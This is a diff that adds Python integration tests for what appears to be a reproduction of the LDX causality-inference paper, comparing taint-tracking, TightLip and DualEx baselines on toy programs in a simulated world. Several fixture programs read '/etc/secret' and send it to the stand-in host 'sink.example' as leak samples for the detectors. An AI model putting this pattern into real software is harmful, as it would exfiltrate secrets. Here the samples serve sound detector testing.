@@ -1,0 +1,267 @@
+"""Integration tests for the baselines against LDX's ground truth."""
+
+import pytest
+
+from repro.baselines.dualex import run_dualex
+from repro.baselines.native import run_native
+from repro.baselines.taint import run_taint
+from repro.baselines.tightlip import run_tightlip
+from repro.core import LdxConfig, SinkSpec, SourceSpec, run_dual
+from repro.instrument import instrument_module
+from repro.ir import compile_source
+from repro.vos.world import World
+
+
+def make_world(secret="7"):
+    world = World(seed=1)
+    world.fs.add_file("/etc/secret", secret)
+    world.network.register("sink.example", 80, lambda req: "")
+    return world
+
+
+CONFIG = LdxConfig(
+    sources=SourceSpec(file_paths={"/etc/secret"}),
+    sinks=SinkSpec.network_out(),
+)
+
+DATA_LEAK = """
+fn main() {
+  var fd = open("/etc/secret", "r");
+  var x = parse_int(read(fd, 10));
+  close(fd);
+  var sock = socket();
+  connect(sock, "sink.example", 80);
+  send(sock, x * 3);
+}
+"""
+
+CONTROL_LEAK = """
+fn main() {
+  var fd = open("/etc/secret", "r");
+  var x = parse_int(read(fd, 10));
+  close(fd);
+  var y = 0;
+  if (x == 7) { y = 1; } else { y = 2; }
+  var sock = socket();
+  connect(sock, "sink.example", 80);
+  send(sock, y);
+}
+"""
+
+LIBRARY_LEAK = """
+fn main() {
+  var fd = open("/etc/secret", "r");
+  var x = read(fd, 10);
+  close(fd);
+  var parts = str_split(x + ",pad", ",");
+  var sock = socket();
+  connect(sock, "sink.example", 80);
+  send(sock, parts[0]);
+}
+"""
+
+NO_LEAK = """
+fn main() {
+  var fd = open("/etc/secret", "r");
+  var x = read(fd, 10);
+  close(fd);
+  var sock = socket();
+  connect(sock, "sink.example", 80);
+  send(sock, "constant");
+}
+"""
+
+
+def module_of(source):
+    return compile_source(source)
+
+
+# -- taint baselines ------------------------------------------------------------
+
+
+def test_taintgrind_detects_data_dependence_leak():
+    result = run_taint(module_of(DATA_LEAK), make_world(), CONFIG, tool="taintgrind")
+    assert result.tainted_sinks == 1
+    assert result.sinks_total == 1
+
+
+def test_libdft_detects_data_dependence_leak():
+    result = run_taint(module_of(DATA_LEAK), make_world(), CONFIG, tool="libdft")
+    assert result.tainted_sinks == 1
+
+
+def test_taint_tools_miss_control_dependence_leak():
+    # The paper's central claim: dependence-based tainting misses
+    # control-dependence-induced strong causality; LDX catches it.
+    for tool in ("taintgrind", "libdft"):
+        result = run_taint(module_of(CONTROL_LEAK), make_world(), CONFIG, tool=tool)
+        assert result.tainted_sinks == 0, tool
+    ldx = run_dual(
+        instrument_module(module_of(CONTROL_LEAK)), make_world(), CONFIG
+    )
+    assert ldx.report.causality_detected
+
+
+def test_libdft_misses_library_propagation_but_taintgrind_does_not():
+    # Table 3: TaintGrind's tainted sinks are a superset of LIBDFT's
+    # because LIBDFT does not model some library calls.
+    libdft = run_taint(module_of(LIBRARY_LEAK), make_world(), CONFIG, tool="libdft")
+    taintgrind = run_taint(
+        module_of(LIBRARY_LEAK), make_world(), CONFIG, tool="taintgrind"
+    )
+    assert libdft.tainted_sinks == 0
+    assert taintgrind.tainted_sinks == 1
+
+
+def test_taint_clean_program_reports_nothing():
+    result = run_taint(module_of(NO_LEAK), make_world(), CONFIG, tool="taintgrind")
+    assert result.tainted_sinks == 0
+    assert result.sinks_total == 1
+
+
+def test_taint_through_file_roundtrip():
+    source = """
+    fn main() {
+      var fd = open("/etc/secret", "r");
+      var x = read(fd, 10);
+      close(fd);
+      var w = open("/tmp/stash", "w");
+      write(w, x);
+      close(w);
+      var r = open("/tmp/stash", "r");
+      var y = read(r, 10);
+      close(r);
+      var sock = socket();
+      connect(sock, "sink.example", 80);
+      send(sock, y);
+    }
+    """
+    world = make_world()
+    world.fs.mkdir("/tmp")
+    result = run_taint(module_of(source), world, CONFIG, tool="taintgrind")
+    assert result.tainted_sinks == 1
+
+
+def test_taint_slowdown_is_several_x():
+    # A compute-heavy program (like SPEC): taint's per-instruction cost
+    # dominates, giving the several-x slowdown the paper measured.
+    source = """
+    fn main() {
+      var fd = open("/etc/secret", "r");
+      var x = parse_int(read(fd, 10));
+      close(fd);
+      var total = 0;
+      for (var i = 0; i < 300; i = i + 1) { total = total + i * x; }
+      var sock = socket();
+      connect(sock, "sink.example", 80);
+      send(sock, total);
+    }
+    """
+    native = run_native(module_of(source), make_world())
+    libdft = run_taint(module_of(source), make_world(), CONFIG, tool="libdft")
+    taintgrind = run_taint(module_of(source), make_world(), CONFIG, tool="taintgrind")
+    assert libdft.time > native.time * 3
+    assert taintgrind.time > libdft.time
+
+
+# -- TightLip ---------------------------------------------------------------------
+
+
+def test_tightlip_detects_real_output_leak():
+    result = run_tightlip(module_of(DATA_LEAK), make_world(), CONFIG)
+    assert result.leak_reported
+
+
+def test_tightlip_quiet_on_identical_traces():
+    result = run_tightlip(module_of(NO_LEAK), make_world(), CONFIG)
+    assert not result.leak_reported
+
+
+def test_tightlip_false_positive_on_benign_path_difference():
+    # The mutation changes which files get opened but not the sink —
+    # LDX tolerates this (realigning via counters); TightLip reports a
+    # leak and terminates.  This is Table 2's key contrast.
+    source = """
+    fn main() {
+      var fd = open("/etc/secret", "r");
+      var x = parse_int(read(fd, 10));
+      close(fd);
+      if (x == 7) {
+        var a = open("/tmp/a", "w");
+        write(a, "cache");
+        close(a);
+      } else {
+        var b1 = open("/tmp/b1", "w");
+        close(b1);
+        var b2 = open("/tmp/b2", "w");
+        close(b2);
+        var b3 = open("/tmp/b3", "w");
+        close(b3);
+        var b4 = open("/tmp/b4", "w");
+        write(b4, "spill");
+        close(b4);
+      }
+      var sock = socket();
+      connect(sock, "sink.example", 80);
+      send(sock, "summary");
+    }
+    """
+    world = make_world()
+    world.fs.mkdir("/tmp")
+    tightlip = run_tightlip(module_of(source), world, CONFIG)
+    assert tightlip.leak_reported
+    assert tightlip.terminated_early
+    ldx = run_dual(instrument_module(module_of(source)), make_world(), CONFIG)
+    # LDX: path difference tolerated, sink identical -> no causality.
+    world2 = make_world()
+    world2.fs.mkdir("/tmp")
+    ldx = run_dual(instrument_module(module_of(source)), world2, CONFIG)
+    assert not ldx.report.causality_detected
+    assert ldx.report.syscall_diffs > 0
+
+
+# -- DualEx --------------------------------------------------------------------------
+
+
+def test_dualex_detects_control_leak_like_ldx():
+    result = run_dualex(module_of(CONTROL_LEAK), make_world(), CONFIG)
+    assert result.causality_detected
+
+
+def test_dualex_quiet_on_clean_program():
+    result = run_dualex(module_of(NO_LEAK), make_world(), CONFIG)
+    assert not result.causality_detected
+    assert result.sinks_total == 1
+
+
+def test_dualex_is_orders_of_magnitude_slower_than_ldx():
+    module = module_of(CONTROL_LEAK)
+    native = run_native(module, make_world())
+    dualex = run_dualex(module, make_world(), CONFIG)
+    ldx = run_dual(instrument_module(module), make_world(), CONFIG)
+    ldx_overhead = ldx.dual_time / native.time
+    dualex_overhead = dualex.time / native.time
+    assert dualex_overhead > 100
+    assert dualex_overhead > ldx_overhead * 50
+
+
+def test_dualex_aligns_loop_iterations_by_index():
+    # Iteration counts in the execution index distinguish the same
+    # static syscall across iterations.
+    source = """
+    fn main() {
+      var fd = open("/etc/secret", "r");
+      var n = parse_int(read(fd, 10));
+      close(fd);
+      var sock = socket();
+      connect(sock, "sink.example", 80);
+      for (var i = 0; i < n; i = i + 1) {
+        send(sock, "tick" + i);
+      }
+    }
+    """
+    result = run_dualex(module_of(source), make_world("3"), CONFIG)
+    # Mutation 3 -> 4: one extra slave-only sink detection.
+    assert result.causality_detected
+    kinds = [kind for kind, _ in result.detections]
+    assert "sink-only-in-slave" in kinds
